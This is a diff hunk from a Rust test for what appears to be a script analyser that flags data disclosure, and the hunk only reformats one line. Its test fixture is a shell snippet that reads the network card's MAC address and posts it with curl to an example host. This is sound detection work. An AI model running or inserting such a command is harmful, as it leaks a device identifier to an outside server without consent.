@@ -157,7 +157,8 @@ fn ordinary_scripts_show_nothing() {
 #[test]
 fn what_is_told_to_whom() {
     let text = "m=$(cat /sys/class/net/eth0/address)\ncurl -d \"mac=$m\" http://a.example.net/hello\n";
-    let told = facts(text, false).into_iter().find_map(|fact| if let CodeFact::Disclosure(told) = fact { Some(*told) } else { None }).unwrap();
+    let told =
+        facts(text, false).into_iter().find_map(|fact| if let CodeFact::Disclosure(told) = fact { Some(*told) } else { None }).unwrap();
     assert_eq!(told.what, [Disclosed::MacAddress]);
     assert_eq!(told.from, "/sys/class/net/eth0/address");
 }
